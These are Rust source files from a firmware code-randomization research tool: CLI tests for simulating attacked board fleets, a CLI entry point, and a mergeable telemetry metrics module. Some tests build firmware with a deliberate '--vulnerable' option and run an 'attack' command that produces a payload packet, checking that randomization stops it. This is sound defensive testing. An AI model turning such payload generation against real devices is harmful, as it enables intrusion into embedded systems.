            "--seed",
            "5",
            "-o",
            &rand_out,
        ]))
        .unwrap();
        assert!(out.contains("functions moved"));
        // The randomized plain HEX simulates fine but cannot be randomized.
        let sim = run(&s(&["simulate", &rand_out, "--cycles", "500000"])).unwrap();
        assert!(sim.contains("CyclesExhausted"), "{sim}");
        assert!(run(&s(&["randomize", &rand_out])).is_err());
    }

    #[test]
    fn scan_and_disasm() {
        let container = tmp("tiny2.mavrhex");
        run(&s(&["build", "tiny", "-o", &container])).unwrap();
        let scan = run(&s(&["scan", &container])).unwrap();
        assert!(scan.contains("attack-capable"));
        let dis = run(&s(&["disasm", &container, "--start", "0x0", "--len", "16"])).unwrap();
        assert!(dis.contains("jmp"), "{dis}");
        assert!(dis.contains("<__vectors>"));
    }

    #[test]
    fn attack_emits_wire_packet() {
        let container = tmp("tiny3.mavrhex");
        run(&s(&["build", "tiny", "--vulnerable", "-o", &container])).unwrap();
        let out = run(&s(&["attack", &container, "--values", "01,02,03"])).unwrap();
        assert!(out.contains("payload 198 bytes"));
        assert!(out.contains("fe"), "wire dump present");
        // v1 variant too.
        let out = run(&s(&["attack", &container, "--variant", "v1"])).unwrap();
        assert!(out.contains("payload"));
    }

    #[test]
    fn randomize_verify_and_survivors() {
        let container = tmp("tiny4.mavrhex");
        run(&s(&["build", "tiny", "-o", &container])).unwrap();
        let rand_out = tmp("tiny4-rand.hex");
        let out = run(&s(&[
            "randomize",
            &container,
            "--seed",
            "4",
            "-o",
            &rand_out,
            "--verify",
        ]))
        .unwrap();
        assert!(out.contains("verify: CyclesExhausted"), "{out}");
        let surv = run(&s(&["survivors", &container, &rand_out])).unwrap();
        assert!(surv.contains("still valid"), "{surv}");
    }

    #[test]
    fn assemble_pipeline() {
        let src_path = tmp("prog.s");
        std::fs::write(
            &src_path,
            ".device atmega2560
.vectors 2
.vector 0 main
.func main
halt:
    rjmp halt
.endfunc
",
        )
        .unwrap();
        let container = tmp("prog.mavrhex");
        let out = run(&s(&["assemble", &src_path, "-o", &container])).unwrap();
        assert!(out.contains("functions"));
        let info = run(&s(&["info", &container])).unwrap();
        assert!(info.contains("functions   "));
        // A randomize of a 1-function program is a no-move but must work.
        assert!(run(&s(&["randomize", &container])).is_ok());
    }

    #[test]
    fn fleet_runs_a_small_campaign() {
        let out_path = tmp("fleet.json");
        let out = run(&s(&[
            "fleet",
            "--boards",
            "1",
            "--scenario",
            "stealthy",
            "--cycles",
            "4000000",
            "--threads",
            "1",
            "-o",
            &out_path,
        ]))
        .unwrap();
        assert!(out.contains("Fleet campaign"), "{out}");
        assert!(out.contains("stealthy"), "{out}");
        let json = std::fs::read_to_string(&out_path).unwrap();
        assert!(json.contains("\"attack_successes\":0"), "{json}");
        // Bad arguments are caught before any board is provisioned.
        assert!(matches!(
            run(&s(&["fleet", "--scenario", "frob"])),
            Err(CliError::Usage(_))
        ));
        assert!(matches!(
            run(&s(&["fleet", "--loss", "2.0"])),
            Err(CliError::Usage(_))
        ));
        assert!(matches!(
            run(&s(&["fleet", "--boards", "0"])),
            Err(CliError::Usage(_))
        ));
    }

    #[test]
    fn chaos_is_deterministic_and_fault_zero_matches_fleet() {
        let common = [
            "--boards",
            "1",
            "--scenario",
            "stealthy",
            "--cycles",
            "3000000",
            "--threads",
            "1",
        ];
        // Same seed twice: byte-identical chaos reports.
        let a_path = tmp("chaos-a.json");
        let b_path = tmp("chaos-b.json");
        for path in [&a_path, &b_path] {
            let mut a = vec!["chaos"];
            a.extend(common);
            a.extend(["--fault", "0.0005", "-o", path]);
            run(&s(&a)).unwrap();
        }
        let a_json = std::fs::read_to_string(&a_path).unwrap();
        assert_eq!(a_json, std::fs::read_to_string(&b_path).unwrap());
        assert!(a_json.contains("\"reflash_retry_rate\""), "{a_json}");
        assert!(a_json.contains("\"degraded_rate\""), "{a_json}");
        assert!(a_json.contains("\"brick_rate\""), "{a_json}");

        // `chaos --fault 0` is the chaos-free engine, byte for byte.
        let chaos0 = tmp("chaos-zero.json");
        let mut a = vec!["chaos"];
        a.extend(common);
        a.extend(["--fault", "0", "-o", &chaos0]);
        run(&s(&a)).unwrap();
        let fleet0 = tmp("fleet-zero.json");
        let mut a = vec!["fleet"];
        a.extend(common);
        a.extend(["-o", &fleet0]);
        run(&s(&a)).unwrap();
        assert_eq!(
            std::fs::read_to_string(&chaos0).unwrap(),
            std::fs::read_to_string(&fleet0).unwrap(),
            "chaos at fault rate 0 must match the plain fleet report"
        );

        assert!(matches!(
            run(&s(&["chaos", "--fault", "1.5"])),
            Err(CliError::Usage(_))
        ));
    }

    #[test]
    fn usage_text_names_every_subcommand() {
        for (name, _) in COMMANDS {
            assert!(
                HELP.contains(&format!("\n  {name} ")),
                "HELP does not document subcommand `{name}`"
            );
        }
        // Every option that takes a value must be documented too — a
        // VALUED entry that HELP never mentions is either dead or a
        // silently undocumented feature.
        for opt in VALUED {
            assert!(
                HELP.contains(opt),
                "HELP does not document valued option `{opt}`"
            );
        }
        // Same drift guard for the bare flags the commands consult: keep
        // this list in sync with every `flags.contains(..)` site.
        for flag in [
            "vulnerable",
            "bootloader",
            "verify",
            "no-dedup",
            "listing",
            "progress",
            "json",
            "jsonl",
            "no-fusion",
            "physics",
            "stdio",
        ] {
            assert!(
                HELP.contains(&format!("--{flag}")),
                "HELP does not document flag `--{flag}`"
            );
        }
    }

    #[test]
    fn fly_holds_hover_and_is_deterministic() {
        let base = ["fly", "--steps", "800", "--seed", "42"];
        let a = run(&s(&base)).unwrap();
        assert!(a.contains("airborne"), "hover flight stays up:\n{a}");
        assert!(a.contains("impacts 0"), "hover flight never crashes:\n{a}");
        assert_eq!(a, run(&s(&base)).unwrap(), "same seed, same flight");

        let json = run(&s(&["fly", "--steps", "300", "--json"])).unwrap();
        let last = json.lines().last().unwrap();
        assert!(
            last.contains("\"t_ms\":300"),
            "trajectory ends at --steps:\n{last}"
        );
        assert!(last.contains("\"on_ground\":false"));

        assert!(matches!(
            run(&s(&["fly", "--scenario", "lunar"])),
            Err(CliError::Usage(_))
        ));
    }

    #[test]
    fn fleet_no_fusion_report_is_byte_identical() {
        // Block fusion is an engine knob: the JSON report (outcomes, cells,
        // totals) must not change a byte when it is turned off.
        let base = [
            "fleet",
            "tiny",
            "--boards",
            "1",
            "--scenario",
            "benign",
            "--cycles",
            "300000",
            "--warmup",
            "200000",
            "--threads",
            "1",
            "--json",
        ];
        let fused = run(&s(&base)).unwrap();
        let mut no_fusion: Vec<&str> = base.to_vec();
        no_fusion.push("--no-fusion");
        let unfused = run(&s(&no_fusion)).unwrap();
        assert_eq!(fused, unfused);
    }

    #[test]
    fn profile_attributes_cycles_to_firmware_symbols() {
        let container = tmp("profile.mavrhex");
        run(&s(&["build", "tiny", "-o", &container])).unwrap();
        let folded = tmp("profile.folded");
        let out = run(&s(&[
            "profile", &container, "--cycles", "400000", "--top", "5", "--folded", &folded,
        ]))
        .unwrap();
        assert!(out.contains("FUNCTION"), "missing table header:\n{out}");
        // The tiny app spends its time in the CRC inner loop; the table is
        // sorted by exclusive cycles so the hot leaf leads it.
        assert!(out.contains("crc_update"), "hot leaf not in table:\n{out}");
        let stacks = std::fs::read_to_string(&folded).unwrap();
        assert!(
            stacks.contains("main_loop;"),
            "main loop missing from call paths:\n{stacks}"
        );
        for line in stacks.lines() {
            let (path, cycles) = line.rsplit_once(' ').expect("folded line shape");
            assert!(!path.is_empty());
            cycles.parse::<u64>().expect("folded cycle count");
        }
        // Plain HEX has no symbol table to attribute cycles to.
        let hex = tmp("profile-plain.hex");
        std::fs::write(&hex, ":00000001FF\n").unwrap();
        assert!(matches!(
            run(&s(&["profile", &hex])),
            Err(CliError::Usage(_))
        ));
    }

    #[test]
    fn fleet_metrics_out_is_thread_invariant() {
        let prom1 = tmp("fleet-metrics-1.prom");
        let prom4 = tmp("fleet-metrics-4.prom");
        let base = [
            "fleet",
            "tiny",
            "--boards",
            "1",
            "--scenario",
            "benign",
            "--cycles",
            "300000",
            "--warmup",
            "200000",
        ];
        let mut one: Vec<&str> = base.to_vec();
        one.extend(["--threads", "1", "--metrics-out", &prom1]);
        let mut four: Vec<&str> = base.to_vec();
        four.extend(["--threads", "4", "--metrics-out", &prom4]);
        let out = run(&s(&one)).unwrap();
        assert!(out.contains(&format!("wrote campaign metrics to {prom1}")));
        run(&s(&four)).unwrap();
        let text = std::fs::read_to_string(&prom1).unwrap();
        assert_eq!(text, std::fs::read_to_string(&prom4).unwrap());
        assert!(text.contains("# TYPE campaign_boards_total counter"));
        // A .jsonl sink switches exposition format.
        let jsonl = tmp("fleet-metrics.jsonl");
        let mut jrun: Vec<&str> = base.to_vec();
        jrun.extend(["--threads", "1", "--metrics-out", &jsonl]);
        run(&s(&jrun)).unwrap();
        let lines = std::fs::read_to_string(&jsonl).unwrap();
        assert!(lines
            .lines()
            .all(|l| l.starts_with('{') && l.ends_with('}')));
    }

    #[test]
    fn snapshot_save_restore_matches_uninterrupted_digest() {
        let container = tmp("snap.mavrhex");
        run(&s(&["build", "tiny", "-o", &container])).unwrap();
        let full = tmp("snap-full.json");
        run(&s(&[
            "snapshot", &container, "--cycles", "600000", "--digest", &full,
        ]))
        .unwrap();
        let snap = tmp("snap-mid.bin");
        run(&s(&[
            "snapshot", &container, "--cycles", "300000", "-o", &snap,
        ]))
        .unwrap();
        let resumed = tmp("snap-resumed.json");
        let out = run(&s(&[
            "snapshot",
            &container,
            "--restore",
            &snap,
            "--cycles",
            "600000",
            "--digest",
            &resumed,
        ]))
        .unwrap();
        assert!(out.contains("resumed to cycle 600000"), "{out}");
        assert_eq!(
            std::fs::read_to_string(&full).unwrap(),
            std::fs::read_to_string(&resumed).unwrap(),
            "digest after save/restore differs from the uninterrupted run"
        );
    }

    #[test]
    fn replay_bisects_v2_divergence() {
        let snap = tmp("prediv.bin");
        let out = run(&s(&[
            "replay",
            "--seed",
            "7",
            "--interval",
            "200000",
            "-o",
            &snap,
        ]))
        .unwrap();
        assert!(out.contains("first divergence at cycle"), "{out}");
        assert!(
            out.contains("diverged from the reference run at cycle"),
            "{out}"
        );
        assert!(out.contains("pre-crash snapshot"), "{out}");
        assert!(!std::fs::read(&snap).unwrap().is_empty());
    }

    #[test]
    fn fleet_checkpoint_resumes_to_identical_report() {
        let ckpt = tmp("fleet-ckpt.bin");
        let _ = std::fs::remove_file(&ckpt);
        let common = [
            "fleet",
            "--boards",
            "1",
            "--scenario",
            "benign,stealthy",
            "--loss",
            "0.05",
            "--cycles",
            "3000000",
            "--threads",
            "1",
        ];
        let direct = tmp("fleet-direct.json");
        let mut a = common.to_vec();
        a.extend(["-o", &direct]);
        run(&s(&a)).unwrap();
        // First budgeted leg: one of two jobs, then stop.
        let mut a = common.to_vec();
        a.extend(["--checkpoint", &ckpt, "--max-jobs", "1"]);
        let out = run(&s(&a)).unwrap();
        assert!(out.contains("1/2 jobs done"), "{out}");
        // Second leg finishes and stitches the full report.
        let resumed = tmp("fleet-resumed.json");
        let mut a = common.to_vec();
        a.extend(["--checkpoint", &ckpt, "-o", &resumed]);
        let out = run(&s(&a)).unwrap();
        assert!(out.contains("Fleet campaign"), "{out}");
        assert_eq!(
            std::fs::read_to_string(&direct).unwrap(),
            std::fs::read_to_string(&resumed).unwrap(),
            "checkpointed campaign is not byte-identical to the direct run"
        );
        // A checkpoint from different arguments is refused.
        let mut a = common.to_vec();
        a.extend(["--seed", "9", "--checkpoint", &ckpt]);
        assert!(matches!(run(&s(&a)), Err(CliError::Failed(_))));
    }

    #[test]
    fn bad_usage_is_reported() {
        assert!(matches!(run(&s(&["frobnicate"])), Err(CliError::Usage(_))));
        assert!(matches!(run(&s(&["build"])), Err(CliError::Usage(_))));
        assert!(matches!(
            run(&s(&["build", "x-wing"])),
            Err(CliError::Usage(_))
        ));
        assert!(run(&s(&[])).unwrap().contains("USAGE"));
        assert!(matches!(
            run(&s(&["serve", "--dir", "/tmp/x"])),
            Err(CliError::Usage(_))
        ));
        assert!(matches!(run(&s(&["submit"])), Err(CliError::Usage(_))));
        assert!(matches!(run(&s(&["merge"])), Err(CliError::Usage(_))));
    }

    #[test]
    fn serve_one_shot_resumes_and_merges_byte_identical_to_fleet_json() {
        let root = tmp("serve-e2e-root");
        let _ = std::fs::remove_dir_all(&root);
        let spec_path = tmp("serve-e2e-spec.json");
        std::fs::write(
            &spec_path,
            r#"{
                "name": "cli-e2e",
                "boards": 2,
                "scenarios": ["benign", "v2"],
                "warmup_cycles": 200000,
                "attack_cycles": 300000,
                "shard_jobs": 3
            }"#,
        )
        .unwrap();

        // Slice 1 stops mid-shard: shards hold 3 jobs, the budget is 2.
        let out = run(&s(&[
            "serve",
            "--dir",
            &root,
            "--spec",
            &spec_path,
            "--max-jobs",
            "2",
        ]))
        .unwrap();
        assert!(out.contains("paused: 2/4 jobs done"), "{out}");

        // Status reads shard checkpoints directly, no service needed.
        let out = run(&s(&["status", "--dir", &root])).unwrap();
        assert!(
            out.contains("cli-e2e: 2/4 jobs, 0/2 shards complete"),
            "{out}"
        );

        // Merging an incomplete campaign is refused.
        let dir = format!("{root}/cli-e2e");
        assert!(matches!(
            run(&s(&["merge", "--campaign", &dir])),
            Err(CliError::Failed(_))
        ));

        // Slice 2 (same command, no budget) completes and auto-merges.
        let out = run(&s(&["serve", "--dir", &root, "--spec", &spec_path])).unwrap();
        assert!(out.contains("complete: 4 jobs"), "{out}");

        // The merged report is byte-identical to one uninterrupted,
        // unsharded fleet run of the same parameters.
        let fleet_json = tmp("serve-e2e-fleet.json");
        let fleet_prom = tmp("serve-e2e-fleet.prom");
        run(&s(&[
            "fleet",
            "tiny",
            "--boards",
            "2",
            "--scenario",
            "benign,v2",
            "--cycles",
            "300000",
            "--warmup",
            "200000",
            "--json",
            "-o",
            &fleet_json,
            "--metrics-out",
            &fleet_prom,
        ]))
        .unwrap();
        let report = std::fs::read_to_string(format!("{dir}/report.json")).unwrap();
        assert_eq!(report, std::fs::read_to_string(&fleet_json).unwrap());

        // An explicit `merge` reproduces the same bytes, metrics included.
        let merged_json = tmp("serve-e2e-merged.json");
        let merged_prom = tmp("serve-e2e-merged.prom");
        let out = run(&s(&[
            "merge",
            "--campaign",
            &dir,
            "-o",
            &merged_json,
            "--metrics-out",
            &merged_prom,
        ]))
        .unwrap();
        assert!(out.contains("merged 2 shards"), "{out}");
        assert_eq!(
            std::fs::read_to_string(&merged_json).unwrap(),
            std::fs::read_to_string(&fleet_json).unwrap()
        );
        assert_eq!(
            std::fs::read_to_string(&merged_prom).unwrap(),
            std::fs::read_to_string(&fleet_prom).unwrap()
        );

        let out = run(&s(&[
            "status",
            "--dir",
            &root,
            "--campaign",
            "cli-e2e",
            "--json",
        ]))
        .unwrap();
        assert!(
            out.contains(r#""complete":true"#) && out.contains(r#""report_written":true"#),
            "{out}"
        );
    }

    #[test]
    fn fleet_jsonl_file_sink_streams_byte_identical_lines() {
        let streamed = tmp("fleet-stream.jsonl");
        let base = [
            "fleet",
            "tiny",
            "--boards",
            "2",
            "--scenario",
            "benign",
            "--cycles",
            "300000",
            "--warmup",
            "200000",
        ];
        let mut stream_run: Vec<&str> = base.to_vec();
        stream_run.extend(["--jsonl", "-o", &streamed]);
        let out = run(&s(&stream_run)).unwrap();
        assert!(
            out.contains(&format!("streamed campaign outcomes to {streamed}")),
            "{out}"
        );
        // The streamed file (written line-by-line as boards finish) is
        // byte-identical to the accumulated to_jsonl() form.
        let mut stdout_run: Vec<&str> = base.to_vec();
        stdout_run.push("--jsonl");
        let expected = run(&s(&stdout_run)).unwrap();
        assert_eq!(std::fs::read_to_string(&streamed).unwrap(), expected);
    }

    #[test]
    fn submit_is_idempotent_and_tenant_namespaces_change_results() {
        let root = tmp("submit-root");
        let _ = std::fs::remove_dir_all(&root);
        let spec_path = tmp("submit-spec.json");
        std::fs::write(
            &spec_path,
            r#"{"name": "sub", "boards": 1, "scenarios": ["benign"],
                "warmup_cycles": 200000, "attack_cycles": 300000}"#,
        )
        .unwrap();
        let out = run(&s(&["submit", &spec_path, "--dir", &root])).unwrap();
        assert!(
            out.contains("submitted campaign sub: 1 jobs in 1 shards"),
            "{out}"
        );
        // Identical resubmission is idempotent...
        run(&s(&["submit", &spec_path, "--dir", &root])).unwrap();
        // ...but a --tenant override mutates the campaign's identity.
        assert!(run(&s(&["submit", &spec_path, "--dir", &root, "--tenant", "7"])).is_err());

        // Tenant namespaces derive disjoint seed streams: the same campaign
        // under a different tenant flies different boards.
        let base = [
            "fleet",
            "tiny",
            "--boards",
            "1",
            "--scenario",
            "v2",
            "--cycles",
            "300000",
            "--warmup",
            "200000",
            "--json",
        ];
        let t0 = run(&s(&base)).unwrap();
        let mut with_tenant: Vec<&str> = base.to_vec();
        with_tenant.extend(["--tenant", "7"]);
        let t7 = run(&s(&with_tenant)).unwrap();
        assert_ne!(t0, t7);
    }
}
