//! The `mavr-cli` command-line tool. All logic lives in the `mavr_tools`
//! library; this wrapper handles process I/O and exit codes.

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match mavr_tools::run(&args) {
        Ok(out) => print!("{out}"),
        Err(e) => {
            eprintln!("mavr: {e}");
            if matches!(e, mavr_tools::CliError::Usage(_)) {
                eprintln!("\n{}", mavr_tools::HELP);
            }
            std::process::exit(1);
        }
    }
}
