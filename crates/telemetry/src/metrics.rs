//! Mergeable campaign metrics: labeled counters, gauges, fixed-bucket log2
//! histograms, and a rank-based quantile sketch.
//!
//! Everything here obeys the same contract as the fleet engine itself:
//! **aggregation is a deterministic, order-insensitive merge**. A campaign
//! sharded across N worker threads must produce byte-identical expositions
//! to the same campaign on one thread, so every structure merges by
//! element-wise addition (counters, histogram slots, sketch buckets) or an
//! explicitly commutative rule (gauges keep the max). No wall-clock data
//! belongs in a registry — throughput numbers ride progress *events*, never
//! the snapshot, so two same-seed runs diff clean.
//!
//! The sketch is the piece ROADMAP item 2 asked for: `CellReport` used to
//! hold one `Vec<u64>` of detection latencies per cell, which is O(boards)
//! RAM; a [`QuantileSketch`] is O(1) in the number of observations (bounded
//! by its ~1.9k possible buckets, sparse in practice) and merges exactly.

use std::collections::BTreeMap;

use crate::json_escape;

/// Sub-bucket resolution: each power-of-two octave is split into
/// `2^SUB_BITS` linear sub-buckets.
const SUB_BITS: u32 = 5;
const SUBS: u64 = 1 << SUB_BITS; // 32

/// Values below this are stored exactly (one bucket per integer).
const EXACT_LIMIT: u64 = SUBS * 2; // 64

/// A mergeable rank-based quantile sketch over `u64` observations.
///
/// Storage is a sparse map from bucket index to count. Values below 64 get
/// one bucket each (exact); larger values land in log2 octaves split into
/// 32 linear sub-buckets, so a bucket spanning `[lo, lo + w)` always has
/// `w/lo <= 1/32`. Alongside the buckets the sketch keeps exact `count`,
/// `sum`, `min`, and `max`.
///
/// Guarantees:
/// - [`merge`](Self::merge) is element-wise addition: associative,
///   commutative, and independent of observation order, so any sharding of
///   the same observations yields a byte-identical sketch.
/// - [`mean`](Self::mean) is **exact** (`sum / count`).
/// - [`quantile`](Self::quantile) returns the lower bound of the bucket
///   holding the requested rank, clamped to `[min, max]`: the true value at
///   that rank lies in `[q, q * (1 + RELATIVE_ERROR))`, i.e. relative error
///   at most [`RELATIVE_ERROR`] ≈ 3.2% (and zero below 64).
/// - `quantile(0.0)` and `quantile(1.0)` are the exact min and max.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct QuantileSketch {
    count: u64,
    sum: u64,
    min: u64,
    max: u64,
    buckets: BTreeMap<u16, u64>,
}

/// Worst-case relative error of [`QuantileSketch::quantile`]: one part in
/// 32 (`2^-SUB_BITS`), the width of a sub-bucket relative to its floor.
pub const RELATIVE_ERROR: f64 = 1.0 / SUBS as f64;

/// Map a value to its sketch bucket index (monotone in `v`).
fn bucket_index(v: u64) -> u16 {
    if v < EXACT_LIMIT {
        return v as u16;
    }
    let k = 63 - v.leading_zeros(); // floor(log2 v), >= 6
    let m = ((v >> (k - SUB_BITS)) & (SUBS - 1)) as u16;
    EXACT_LIMIT as u16 + ((k as u16 - 6) << SUB_BITS) + m
}

/// Smallest value mapping to bucket `i` (inverse of [`bucket_index`]).
fn bucket_floor(i: u16) -> u64 {
    if u64::from(i) < EXACT_LIMIT {
        return u64::from(i);
    }
    let j = u64::from(i) - EXACT_LIMIT;
    let k = 6 + (j >> SUB_BITS) as u32;
    let m = j & (SUBS - 1);
    (1u64 << k) + (m << (k - SUB_BITS))
}

impl QuantileSketch {
    /// An empty sketch.
    pub fn new() -> Self {
        Self::default()
    }

    /// Record one observation.
    pub fn record(&mut self, v: u64) {
        if self.count == 0 {
            self.min = v;
            self.max = v;
        } else {
            self.min = self.min.min(v);
            self.max = self.max.max(v);
        }
        self.count += 1;
        self.sum = self.sum.saturating_add(v);
        *self.buckets.entry(bucket_index(v)).or_insert(0) += 1;
    }

    /// Fold another sketch in. Element-wise, so the result is independent
    /// of how observations were sharded or in which order shards merge.
    pub fn merge(&mut self, other: &QuantileSketch) {
        if other.count == 0 {
            return;
        }
        if self.count == 0 {
            self.min = other.min;
            self.max = other.max;
        } else {
            self.min = self.min.min(other.min);
            self.max = self.max.max(other.max);
        }
        self.count += other.count;
        self.sum = self.sum.saturating_add(other.sum);
        for (&idx, &n) in &other.buckets {
            *self.buckets.entry(idx).or_insert(0) += n;
        }
    }

    /// Number of observations.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Exact sum of all observations (saturating).
    pub fn sum(&self) -> u64 {
        self.sum
    }

    /// Exact smallest observation, if any.
    pub fn min(&self) -> Option<u64> {
        (self.count > 0).then_some(self.min)
    }

    /// Exact largest observation, if any.
    pub fn max(&self) -> Option<u64> {
        (self.count > 0).then_some(self.max)
    }

    /// Exact arithmetic mean (`sum / count`), if any observations exist.
    pub fn mean(&self) -> Option<f64> {
        (self.count > 0).then(|| self.sum as f64 / self.count as f64)
    }

    /// The value at rank `floor(q * (count - 1))` of the sorted
    /// observations, to within [`RELATIVE_ERROR`]; `q` is clamped to
    /// `[0, 1]`. Returns the bucket floor of the rank's bucket, clamped to
    /// `[min, max]` so the extremes are exact.
    pub fn quantile(&self, q: f64) -> Option<u64> {
        if self.count == 0 {
            return None;
        }
        let q = q.clamp(0.0, 1.0);
        if q >= 1.0 {
            return Some(self.max);
        }
        let rank = (q * (self.count - 1) as f64).floor() as u64;
        let mut seen = 0u64;
        for (&idx, &n) in &self.buckets {
            seen += n;
            if seen > rank {
                return Some(bucket_floor(idx).clamp(self.min, self.max));
            }
        }
        Some(self.max) // unreachable if counts are consistent
    }

    /// Serialize to the little-endian wire form used by fleet checkpoints.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(4 + 1 + 8 * 4 + 4 + self.buckets.len() * 10);
        out.extend_from_slice(b"MQSK");
        out.push(1); // version
        out.extend_from_slice(&self.count.to_le_bytes());
        out.extend_from_slice(&self.sum.to_le_bytes());
        out.extend_from_slice(&self.min.to_le_bytes());
        out.extend_from_slice(&self.max.to_le_bytes());
        out.extend_from_slice(&(self.buckets.len() as u32).to_le_bytes());
        for (&idx, &n) in &self.buckets {
            out.extend_from_slice(&idx.to_le_bytes());
            out.extend_from_slice(&n.to_le_bytes());
        }
        out
    }

    /// Parse the [`to_bytes`](Self::to_bytes) form. `None` on any
    /// malformed input (bad magic, truncation, unsorted buckets).
    pub fn from_bytes(bytes: &[u8]) -> Option<QuantileSketch> {
        let rest = bytes.strip_prefix(b"MQSK")?;
        let (&version, rest) = rest.split_first()?;
        if version != 1 || rest.len() < 8 * 4 + 4 {
            return None;
        }
        let u64_at = |i: usize| u64::from_le_bytes(rest[i..i + 8].try_into().unwrap());
        let count = u64_at(0);
        let sum = u64_at(8);
        let min = u64_at(16);
        let max = u64_at(24);
        let n = u32::from_le_bytes(rest[32..36].try_into().unwrap()) as usize;
        let body = &rest[36..];
        if body.len() != n * 10 {
            return None;
        }
        let mut buckets = BTreeMap::new();
        let mut prev: Option<u16> = None;
        for chunk in body.chunks_exact(10) {
            let idx = u16::from_le_bytes(chunk[..2].try_into().unwrap());
            if prev.is_some_and(|p| p >= idx) {
                return None;
            }
            prev = Some(idx);
            buckets.insert(idx, u64::from_le_bytes(chunk[2..].try_into().unwrap()));
        }
        if buckets.values().sum::<u64>() != count {
            return None;
        }
        Some(QuantileSketch {
            count,
            sum,
            min,
            max,
            buckets,
        })
    }
}

/// Number of slots in a [`Histogram`]: one for zero plus one per power of
/// two up to `2^63`.
pub const HISTOGRAM_SLOTS: usize = 65;

/// A fixed-size log2 histogram: slot 0 counts zeros, slot `i >= 1` counts
/// values in `[2^(i-1), 2^i)`. Cheaper and coarser than a
/// [`QuantileSketch`]; merge is element-wise addition over a fixed array.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Histogram {
    count: u64,
    sum: u64,
    slots: [u64; HISTOGRAM_SLOTS],
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            count: 0,
            sum: 0,
            slots: [0; HISTOGRAM_SLOTS],
        }
    }
}

impl Histogram {
    /// An empty histogram.
    pub fn new() -> Self {
        Self::default()
    }

    /// Slot index for a value: 0 for 0, else `1 + floor(log2 v)`.
    pub fn slot(v: u64) -> usize {
        if v == 0 {
            0
        } else {
            64 - v.leading_zeros() as usize
        }
    }

    /// Record one observation.
    pub fn record(&mut self, v: u64) {
        self.count += 1;
        self.sum = self.sum.saturating_add(v);
        self.slots[Self::slot(v)] += 1;
    }

    /// Element-wise merge; order-insensitive.
    pub fn merge(&mut self, other: &Histogram) {
        self.count += other.count;
        self.sum = self.sum.saturating_add(other.sum);
        for (s, o) in self.slots.iter_mut().zip(other.slots.iter()) {
            *s += o;
        }
    }

    /// Number of observations.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// Exact sum of all observations (saturating).
    pub fn sum(&self) -> u64 {
        self.sum
    }

    /// Raw slot counts.
    pub fn slots(&self) -> &[u64; HISTOGRAM_SLOTS] {
        &self.slots
    }

    /// Inclusive upper bound of slot `i` (`2^i - 1`; slot 0 covers only 0).
    /// `None` for the last slot, whose bound is effectively +Inf.
    pub fn slot_upper_bound(i: usize) -> Option<u64> {
        if i >= HISTOGRAM_SLOTS - 1 {
            None
        } else {
            Some((1u64 << i) - 1)
        }
    }
}

/// One metric value in a [`MetricsRegistry`].
#[derive(Debug, Clone, PartialEq)]
pub enum Metric {
    /// Monotone event count.
    Counter(u64),
    /// Point-in-time level. Merge keeps the **max** (the only commutative
    /// choice that is still useful for high-water marks); gauges carrying
    /// wall-clock or per-run data must stay out of merged registries.
    Gauge(f64),
    /// Log2 histogram (boxed: its 65 fixed slots dwarf the other
    /// variants, and registries hold metrics behind this enum by value).
    Histogram(Box<Histogram>),
    /// Quantile sketch.
    Sketch(QuantileSketch),
}

impl Metric {
    fn type_name(&self) -> &'static str {
        match self {
            Metric::Counter(_) => "counter",
            Metric::Gauge(_) => "gauge",
            Metric::Histogram(_) => "histogram",
            Metric::Sketch(_) => "sketch",
        }
    }
}

/// Registry key: metric name plus sorted label pairs.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
struct MetricKey {
    name: String,
    labels: Vec<(String, String)>,
}

fn key(name: &str, labels: &[(&str, &str)]) -> MetricKey {
    let mut labels: Vec<(String, String)> = labels
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    labels.sort();
    MetricKey {
        name: name.to_string(),
        labels,
    }
}

/// A set of labeled metrics with a deterministic merge and two text
/// expositions (Prometheus and JSONL). Iteration order is the `BTreeMap`
/// order of `(name, sorted labels)`, so expositions are stable regardless
/// of registration order.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct MetricsRegistry {
    metrics: BTreeMap<MetricKey, Metric>,
}

impl MetricsRegistry {
    /// An empty registry.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of distinct (name, labels) series.
    pub fn len(&self) -> usize {
        self.metrics.len()
    }

    /// True when no series are registered.
    pub fn is_empty(&self) -> bool {
        self.metrics.is_empty()
    }

    /// Add `delta` to a counter, creating it at zero first.
    ///
    /// Panics if the series already exists with a different type — mixing
    /// types under one series is a programming error, not a data error.
    pub fn add_counter(&mut self, name: &str, labels: &[(&str, &str)], delta: u64) {
        match self
            .metrics
            .entry(key(name, labels))
            .or_insert(Metric::Counter(0))
        {
            Metric::Counter(c) => *c += delta,
            other => panic!("{name} is a {}, not a counter", other.type_name()),
        }
    }

    /// Set a gauge to `value` (overwrites; merge keeps the max).
    pub fn set_gauge(&mut self, name: &str, labels: &[(&str, &str)], value: f64) {
        match self
            .metrics
            .entry(key(name, labels))
            .or_insert(Metric::Gauge(value))
        {
            Metric::Gauge(g) => *g = value,
            other => panic!("{name} is a {}, not a gauge", other.type_name()),
        }
    }

    /// Record an observation into a histogram series.
    pub fn observe_histogram(&mut self, name: &str, labels: &[(&str, &str)], v: u64) {
        match self
            .metrics
            .entry(key(name, labels))
            .or_insert_with(|| Metric::Histogram(Box::new(Histogram::new())))
        {
            Metric::Histogram(h) => h.record(v),
            other => panic!("{name} is a {}, not a histogram", other.type_name()),
        }
    }

    /// Record an observation into a sketch series.
    pub fn observe_sketch(&mut self, name: &str, labels: &[(&str, &str)], v: u64) {
        match self
            .metrics
            .entry(key(name, labels))
            .or_insert_with(|| Metric::Sketch(QuantileSketch::new()))
        {
            Metric::Sketch(s) => s.record(v),
            other => panic!("{name} is a {}, not a sketch", other.type_name()),
        }
    }

    /// Insert a pre-built sketch series (merging into any existing one).
    pub fn merge_sketch(&mut self, name: &str, labels: &[(&str, &str)], sketch: &QuantileSketch) {
        match self
            .metrics
            .entry(key(name, labels))
            .or_insert_with(|| Metric::Sketch(QuantileSketch::new()))
        {
            Metric::Sketch(s) => s.merge(sketch),
            other => panic!("{name} is a {}, not a sketch", other.type_name()),
        }
